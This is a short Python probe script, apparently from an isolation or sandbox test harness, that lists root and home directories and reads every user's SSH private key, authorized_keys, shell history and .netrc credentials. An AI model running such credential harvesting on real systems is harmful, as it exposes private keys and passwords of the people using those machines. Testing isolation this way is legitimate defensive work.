"""Reads the organiser's home."""
import os
import pwd

from attack import found, play_on, read

read("@home@")
for path in ["/root", "/home", "@home_folder@"]:
    try:
        found(f"{path}: {os.listdir(path)[:5]}", bool(os.listdir(path)))
    except OSError as error:
        found(f"{path}: {error.strerror}", False)
for user in pwd.getpwall():
    for name in [".ssh/id_rsa", ".ssh/authorized_keys", ".bash_history", ".netrc"]:
        if os.path.exists(os.path.join(user.pw_dir, name)):
            read(os.path.join(user.pw_dir, name))
play_on()
